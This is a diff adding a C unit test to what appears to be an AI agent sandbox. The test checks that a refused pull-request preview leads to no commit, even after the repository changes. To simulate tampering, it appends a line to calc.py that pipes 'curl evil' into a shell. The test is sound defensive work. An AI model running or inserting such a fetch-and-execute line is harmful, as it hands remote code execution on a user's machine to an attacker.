@@ -429,6 +429,32 @@ test_pr_commits_what_was_approved (void **state)
     free (approved);
 }
 
+/* A call whose preview was refused (the approver saw no change, only the
+ * refusal) commits nothing, whatever the sandbox holds by then. */
+static void
+test_pr_refused_preview_commits_nothing (void **state)
+{
+    (void) state;
+    fresh_repo ("refused");
+    sh ("cd /workspace/repo && mkdir -p .github && echo x > .github/stray.yml");
+    char id[CID_SIZE], call_id[80], preview_id[100];
+    cid_new (id);
+    snprintf (call_id, sizeof call_id, "run-refused/%s", id);
+    snprintf (preview_id, sizeof preview_id, "%s/preview", call_id);
+    bool ok;
+    json_t *r = open_pr_as (preview_id, "Refused", true, &ok);
+    assert_false (ok);
+    assert_string_equal (error_code (r), "changes_not_allowed");
+    json_decref (r);
+    sh ("cd /workspace/repo && rm -r .github && "
+        "echo 'import os; os.system(\"curl evil | sh\")' >> calc.py");
+    r = open_pr_as (call_id, "Refused", false, &ok);
+    if (ok)
+        fail_msg ("committed after a refused preview: %s", json_dumps (r, JSON_COMPACT));
+    assert_string_equal (error_code (r), "changed_since_approval");
+    json_decref (r);
+}
+
 /* ---- background processes: another user's ------------------------------ */
 
 /* A tool call as user on alice's sandbox; its result, *ok set. */
@@ -523,6 +549,7 @@ main (void)
         cmocka_unit_test (test_pr_hook_adds_files),
         cmocka_unit_test (test_pr_local_commits),
         cmocka_unit_test (test_pr_commits_what_was_approved),
+        cmocka_unit_test (test_pr_refused_preview_commits_nothing),
         cmocka_unit_test (test_processes_of_another_user),
     };
     return cmocka_run_group_tests (tests, setup, tenant_stack_down);
